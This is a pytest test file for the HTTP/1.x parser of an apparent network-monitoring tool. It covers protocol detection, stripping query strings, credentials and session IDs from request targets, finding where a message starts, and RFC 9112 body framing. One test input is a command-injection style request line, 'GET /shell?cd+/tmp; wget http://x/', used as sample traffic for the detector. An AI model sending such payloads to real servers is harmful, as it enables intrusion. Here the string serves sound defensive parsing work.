"""HTTP/1.x syntax: what may be shown of a target, and where a message begins."""

from __future__ import annotations

import pytest

from netmon.protocols._contract import Claim, Context
from netmon.protocols._http_syntax import Body, RequestLine, framing_of, message_start, split_target
from netmon.protocols.http1 import PROTOCOL

TCP = Context("tcp", 50000, 80)


@pytest.mark.parametrize(
    ("client", "server", "claim"),
    [
        (b"GET / HTTP/1.1\r\n", b"", Claim.YES),
        (b"\r\nPROPFIND /x HTTP/1.1\r\n", b"", Claim.YES),
        (b"GET /" + b"a" * 2000, b"", Claim.WEAK),
        (b"GE", b"", Claim.MORE),
        (b"PROPFIND /x HT", b"", Claim.MORE),
        (b"OPTIONS rtsp://a/ RTSP/1.0\r\n", b"", Claim.NO),
        (b"OPTIONS rtsp://a/ R", b"", Claim.NO),
        (b"OPTIONS icap://a/ ICAP/1.0\r\n", b"", Claim.NO),
        (b"INVITE sip:a@b SIP/2.0\r\n", b"", Claim.NO),
        (b"PRI * HTTP/2.0\r\n", b"", Claim.NO),
        (b"GET a file\r\n", b"", Claim.NO),
        (b"HELO example.org\r\n", b"", Claim.NO),
        (b"HTTP/1.1 is nice\r\n", b"", Claim.NO),
        (b"\x16\x03\x01", b"", Claim.NO),
        (b"", b"HTTP/1.1 408 Request Timeout\r\n", Claim.YES),
        (b"", b"HTTP/1.1 4", Claim.MORE),
        (b"", b"HTTP/1.1 is nice\r\n", Claim.NO),
        (b"", b"220 mail\r\n", Claim.NO),
    ],
)
def test_claims(client: bytes, server: bytes, claim: Claim) -> None:
    """By the request line, or the status line of a server that speaks first; never by resemblance."""
    assert PROTOCOL.claims(TCP, client, server) is claim


@pytest.mark.parametrize(
    ("target", "path", "authority", "credentials"),
    [
        (b"/a?q=1", b"/a", b"", False),
        (b"/a#f?q", b"/a", b"", False),
        (b"/a;JSESSIONID=1;v=2/b", b"/a;v=2/b", b"", False),
        (b"http://u:p@h.example:8/x?y", b"/x", b"h.example:8", True),
        (b"http://u@h.example", b"/", b"h.example", False),
        (b"/http://u@h", b"/http://u@h", b"", False),
    ],
)
def test_split_target(target: bytes, path: bytes, authority: bytes, credentials: bool) -> None:
    """Query, fragment, user information and session identifiers are gone; the rest is there."""
    assert split_target(RequestLine(b"GET", target, "1.1"))[:3] == (path, authority, credentials)


@pytest.mark.parametrize(
    ("line", "start"),
    [
        (b"a=bGET /x HTTP/1.1\r\n", b"GET /x HTTP/1.1\r\n"),
        (b"GET /shell?cd+/tmp; wget http://x/ HTTP/1.1\r\n", b"GET /shell?cd+/tmp; wget http://x/ HTTP/1.1\r\n"),
        (b"RPC_IN_DATA /rpc HTTP/1.1\r\n", b"RPC_IN_DATA /rpc HTTP/1.1\r\n"),
        (b"so GO_ON /rpc HTTP/1.1\r\n", b""),
        (b"\0\0HTTP/1.1 200 OK\r\n", b"HTTP/1.1 200 OK\r\n"),
        (b"see HTTP/1.1 for more\r\n", b""),
        (b"GET the thing\r\n", b""),
        (b"HTTP/1." * 1000 + b"\r\n", b""),
    ],
)
def test_message_start(line: bytes, start: bytes) -> None:
    """A message that begins in the middle of a line is found; prose is not."""
    assert message_start(line) == start


@pytest.mark.parametrize(
    ("fields", "framing"),
    [
        ({b"content-length": b"5"}, (Body.LENGTH, 5)),
        ({b"content-length": b"007, 7"}, (Body.LENGTH, 7)),
        ({b"content-length": b"-1"}, (Body.NONE, 0)),
        ({b"content-length": b"5", b"transfer-encoding": b"gzip, Chunked"}, (Body.CHUNKED, 0)),
        ({b"transfer-encoding": b"gzip"}, (Body.NONE, 0)),
    ],
)
def test_framing(fields: dict[bytes, bytes], framing: tuple[Body, int]) -> None:
    """Transfer-Encoding before Content-Length; nonsense counts as absent (RFC 9112 section 6.3)."""
    assert framing_of(fields, Body.NONE)[:2] == framing
